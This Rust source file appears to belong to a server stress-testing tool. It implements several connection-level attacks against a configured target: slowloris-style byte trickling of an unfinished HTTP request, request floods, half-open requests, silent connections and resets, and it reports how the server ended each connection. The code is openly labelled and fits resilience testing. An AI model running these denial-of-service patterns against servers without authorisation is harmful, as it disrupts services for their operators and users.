//! One connection of an attack.

use std::sync::Arc;
use std::sync::mpsc::Sender;
use std::time::{Duration, Instant};

use bytes::Bytes;
use tidegate::{CloseReason, Consumed, Dial, Flow, Mail, Origin, Outbox, Peer, Refusal, Service, Session};

use super::{Attack, AttackKind, AttackSpeech};
use crate::run_state::not_connected;

/// How long a connection that is to be reset in mid-request waits for its first bytes to arrive.
const BEFORE_RESET: Duration = Duration::from_millis(50);

/// How long a trickling connection waits between two bytes.
const BETWEEN_BYTES: Duration = Duration::from_secs(1);

/// Bytes of one piece of a flood.
const FLOOD_BYTES: usize = 16 * 1024;

/// The outcome of a connection, reported to the attack.
pub(super) enum AttackEvent {
    Established { kind: AttackKind },
    Failed { kind: AttackKind, why: String },
    Ended { kind: AttackKind, lasted: Duration, how: EndedBy },
}

impl AttackEvent {
    pub(super) fn kind(&self) -> AttackKind {
        match *self {
            Self::Established { kind } | Self::Failed { kind, .. } | Self::Ended { kind, .. } => kind,
        }
    }
}

/// Who ended a connection, and how.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum EndedBy {
    /// The server closed it.
    Closed,
    /// The server reset it.
    Reset,
    /// The attacker did, as it was to.
    Itself,
}

/// The number of a dial: its kind, and its variant.
pub(super) fn tag(kind: AttackKind, variant: u64) -> u64 {
    (kind as u64) << 8 | variant
}

fn kind_of(tag: u64) -> Option<AttackKind> {
    AttackKind::ALL.iter().copied().find(|&kind| kind as u64 == tag >> 8)
}

/// Makes the sessions.
pub(super) struct AttackService {
    notices: Sender<AttackEvent>,
    words: Arc<Words>,
}

/// What is sent.
struct Words {
    /// The beginning of a request that is never completed.
    begun: Bytes,
    /// Much of what the server has to answer.
    flood: Bytes,
}

impl AttackService {
    pub(super) fn new(attack: &Attack, notices: Sender<AttackEvent>) -> Self {
        let (host, path) = (&attack.target.host, &attack.target.path);
        let words = match attack.speech {
            AttackSpeech::Http => {
                let begun = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Slow: ");
                let request = format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n");
                let flood = request.repeat(FLOOD_BYTES / request.len() + 1);
                Words { begun: begun.into(), flood: flood.into() }
            }
            AttackSpeech::Bytes => Words { begun: "attack".into(), flood: "x".repeat(FLOOD_BYTES).into() },
        };
        Self { notices, words: Arc::new(words) }
    }

    fn notify(&self, notice: AttackEvent) {
        let _ = self.notices.send(notice); // the campaign is over: nobody counts any more
    }
}

impl Service for AttackService {
    type Session = Attacker;

    fn open(&self, peer: &Peer) -> Result<Attacker, Refusal> {
        let Origin::Dialled { tag } = peer.origin else { return Err(Refusal) };
        let kind = kind_of(tag).ok_or(Refusal)?;
        self.notify(AttackEvent::Established { kind });
        Ok(Attacker {
            kind,
            at_once: tag & 1 == 1,
            established: Instant::now(),
            said: 0,
            ended: false,
            notices: self.notices.clone(),
            words: self.words.clone(),
        })
    }

    fn dial_failed(&self, dial: &Dial, error: &std::io::Error) {
        if let Some(kind) = kind_of(dial.tag) {
            self.notify(AttackEvent::Failed { kind, why: not_connected(&dial.to, error) });
        }
    }
}

/// One connection.
pub(super) struct Attacker {
    kind: AttackKind,
    /// For resets: whether it resets before sending anything.
    at_once: bool,
    established: Instant,
    /// Bytes of a request said, one at a time.
    said: usize,
    /// The server has ended it.
    ended: bool,
    notices: Sender<AttackEvent>,
    words: Arc<Words>,
}

impl Attacker {
    fn flood(&self, out: &mut Outbox<'_>) -> Flow {
        // A full outbox also stops this end from reading: the library does not receive for a connection above its high
        // watermark.
        while !out.is_full() {
            out.share(self.words.flood.clone());
        }
        Flow::Continue
    }

    fn trickle(&mut self, out: &mut Outbox<'_>) -> Flow {
        let byte = self.words.begun.get(self.said).copied().unwrap_or(b'x');
        self.said += 1;
        out.write(&[byte]);
        out.wake_at(out.now() + BETWEEN_BYTES);
        Flow::Continue
    }
}

impl Session for Attacker {
    fn on_open(&mut self, out: &mut Outbox<'_>) -> Flow {
        match self.kind {
            AttackKind::Silent => Flow::Continue,
            AttackKind::Trickle => self.trickle(out),
            AttackKind::Flood => self.flood(out),
            AttackKind::HalfOpen => {
                out.share(self.words.begun.clone());
                Flow::Shutdown
            }
            AttackKind::Reset if self.at_once => Flow::Abort,
            AttackKind::Reset => {
                out.share(self.words.begun.clone());
                out.wake_at(out.now() + BEFORE_RESET);
                Flow::Continue
            }
        }
    }

    fn on_bytes(&mut self, input: &[u8], _: &mut Outbox<'_>) -> Consumed {
        Consumed::all(input)
    }

    fn on_drained(&mut self, out: &mut Outbox<'_>) -> Flow {
        if self.kind == AttackKind::Flood { self.flood(out) } else { Flow::Continue }
    }

    fn on_mail(&mut self, mail: Mail, out: &mut Outbox<'_>) -> Flow {
        match (mail, self.kind) {
            (Mail::Timer, AttackKind::Trickle) => self.trickle(out),
            (Mail::Timer, AttackKind::Reset) => Flow::Abort,
            _ => Flow::Continue,
        }
    }

    fn on_end(&mut self, _: &mut Outbox<'_>) -> Flow {
        self.ended = true;
        // A reset leaves no address pair in TIME_WAIT: the next connection needs them.
        Flow::Abort
    }

    fn on_close(&mut self, why: CloseReason) {
        let how = match why {
            _ if self.ended => EndedBy::Closed,
            CloseReason::Aborted => EndedBy::Itself,
            CloseReason::Stopped => return, // the attack is over
            CloseReason::Finished => EndedBy::Closed,
            _ => EndedBy::Reset,
        };
        let _ = self.notices.send(AttackEvent::Ended {
            kind: self.kind,
            lasted: self.established.elapsed(),
            how,
        });
    }
}
